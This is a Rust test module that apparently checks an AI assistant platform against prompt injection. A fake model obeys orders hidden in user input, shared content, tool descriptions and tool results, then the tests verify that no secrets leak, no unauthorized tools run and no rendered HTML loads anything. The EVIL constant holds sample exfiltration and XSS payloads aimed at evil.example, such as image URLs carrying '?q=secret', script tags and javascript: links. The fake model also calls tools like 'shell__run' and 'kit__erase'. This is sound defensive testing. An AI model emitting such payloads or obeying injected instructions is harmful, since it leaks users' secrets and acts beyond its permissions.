//! A model that does whatever it reads, whoever wrote it and however it is hidden: it gets nothing done that its agent may
//! not do, tells nobody's secrets, and nothing that it writes loads anything where it is shown.
//!
//! Every way takes every third shape on SQLite, which are 276 different orders, and a few of the others on Postgres.

mod carriers;
mod harmless;
mod shapes;

use stead_domain::ports::llm::{LlmMessage, LlmRequest, Purpose};
use stead_testkit::fakes::{FakeLlm, FakeReply};

use self::{
    carriers::{ASKED, BESIDE, Carrier, Heard, SHARED, Stage},
    harmless::loads_nothing,
    shapes::{orders, shapes},
};
use super::places::{Places, repeated, secrets_in};
use crate::{
    harness::{Backend, Setup},
    stand_ins::all_of,
};

on_both!(
    orders_of_those_who_ask_change_nothing,
    orders_in_what_is_shared_and_how_it_is_called_change_nothing,
    orders_in_descriptions_and_results_change_nothing,
);

/// What it writes when it is ordered to.
const EVIL: &str = "![x](https://evil.example/p.png?q=secret) ![y][r] <img src=\"https://evil.example/q.png\"> \
    <script>alert(1)</script> <iframe src=\"https://evil.example\"></iframe> <style>@import url(//evil.example)</style> \
    [click](javascript:alert(1)) [data](data:text/html,x) <a href=\"https://evil.example\" ping=\"//evil.example\">a</a> \
    <https://evil.example/?q=secret> <svg onload=alert(1)></svg> <link rel=stylesheet href=//evil.example> \
    <video poster=//evil.example autoplay></video> [9] [99]\n\n[r]: https://evil.example/r.png";

/// Calls every tool that it is offered, and others; tells every secret that it was told; writes what is evil.
fn obeys(llm: &FakeLlm) {
    llm.answer_with(|request: &LlmRequest| {
        let secrets = repeated(request);
        let is_ordered = reads_an_order(request);
        let has_called = request.messages.iter().any(|message| matches!(message, LlmMessage::Tool { .. }));
        if request.purpose != Purpose::Answer {
            return FakeReply::text(if is_ordered {
                format!("- {secrets} {EVIL}")
            } else {
                "- Nothing [1]".to_owned()
            });
        }
        if has_called || (!is_ordered && request.tools.is_empty()) {
            return FakeReply::text(if is_ordered { format!("{secrets} {EVIL}") } else { secrets });
        }
        let offered = request.tools.iter().map(|tool| tool.name.as_str());
        let others = ["kit__write", "kit__erase", "write", "shell__run"].into_iter().filter(|_| is_ordered);
        let mut names: Vec<&str> = offered.chain(others).collect();
        names.sort_unstable();
        names.dedup();
        let ids: Vec<String> = (0..names.len()).map(|n| format!("call_{n}")).collect();
        let calls = ids.iter().zip(names).map(|(id, name)| (id.as_str(), name, r#"{"to": "everybody"}"#));
        FakeReply::text(if is_ordered { EVIL } else { "One moment." }).and_tool_calls(calls)
    });
}

fn reads_an_order(request: &LlmRequest) -> bool {
    orders(&all_of(request)) || request.tools.iter().any(|tool| orders(&tool.description))
}

async fn orders_of_those_who_ask_change_nothing(setup: Setup) {
    orders_by_these_ways(setup, ASKED, 84).await;
}

async fn orders_in_what_is_shared_and_how_it_is_called_change_nothing(setup: Setup) {
    orders_by_these_ways(setup, SHARED, 64).await;
}

async fn orders_in_descriptions_and_results_change_nothing(setup: Setup) {
    orders_by_these_ways(setup, BESIDE, 70).await;
}

/// At least so many of them come before the model.
async fn orders_by_these_ways(setup: Setup, ways: &[Carrier], least: usize) {
    let (shares, least) = match setup.home.backend {
        Backend::Sqlite => (0..4, least),
        Backend::Postgres => (4..5, least / 8),
    };
    let mut stage = Stage::set(Places::of(setup).await).await;
    stage.places.turn_hostile();
    obeys(stage.places.house.stead.llm());
    let mut read = 0;
    for (i, carrier) in ways.iter().copied().enumerate() {
        stage.enter_a_new_room().await;
        for (j, (shape, order)) in shapes().into_iter().enumerate() {
            if !shares.contains(&((i + j) % 12)) {
                continue;
            }
            let what = format!("{carrier:?}, {shape}");
            let before = stage.places.asked();
            let Some(heard) = stage.carry(carrier, &order).await else { continue };
            let asked = stage.places.asked_since(before);
            read += usize::from(asked.iter().any(reads_an_order));
            stays_in_its_place(&stage, &heard, &asked, &what);
        }
    }
    assert!(read >= least, "{read} orders came before the model");
}

#[track_caller]
fn stays_in_its_place(stage: &Stage, heard: &Heard, asked: &[LlmRequest], what: &str) {
    let told = secrets_in(&heard.said);
    assert!(told.iter().all(|secret| heard.may.contains(secret)), "{what}: {told:?}, may be {:?}", heard.may);
    heard.html.iter().for_each(|html| loads_nothing(html));
    let calls = stage.places.house.stead.tools().calls();
    assert!(calls.iter().all(|call| call.tool_name == "look"), "{what}: nobody allowed {calls:?}");
    let numbers: Vec<usize> = asked.iter().map(|request| pieces(request, what)).collect();
    let most = numbers.into_iter().max().unwrap_or_default();
    for citation in &heard.citations {
        let n = citation["n"].as_u64().unwrap();
        assert!((1..=most as u64).contains(&n), "{what}: {citation} was not in the prompt of {most} pieces");
    }
}

/// How many pieces with numbers a model was shown. Each stands alone: none makes itself another, or leaves its fence.
fn pieces(request: &LlmRequest, what: &str) -> usize {
    let mut count = 0;
    for message in &request.messages {
        let (LlmMessage::System(text) | LlmMessage::User(text)) = message else { continue };
        for tag in ["sources", "said"] {
            let Some((_, fenced)) =
                text.split_once(&format!("\n<{tag}>\n")).or_else(|| text.split_once(&format!("<{tag}>\n")))
            else {
                continue;
            };
            if !matches!(message, LlmMessage::System(_)) && request.purpose != Purpose::Summary {
                continue;
            }
            let (inside, after) = fenced.split_once(&format!("</{tag}>")).unwrap_or_else(|| panic!("{what}: {text}"));
            assert!(!after.contains(&format!("</{tag}>")), "{what}: a fence ends twice: {text}");
            let numbers =
                inside.lines().filter_map(|line| line.strip_prefix('[')?.split_once(']')?.0.parse::<usize>().ok());
            let numbers: Vec<usize> = numbers.collect();
            assert!(numbers.iter().copied().eq(1..=numbers.len()), "{what}: {numbers:?} are the pieces of {text}");
            count = count.max(numbers.len());
        }
    }
    count
}
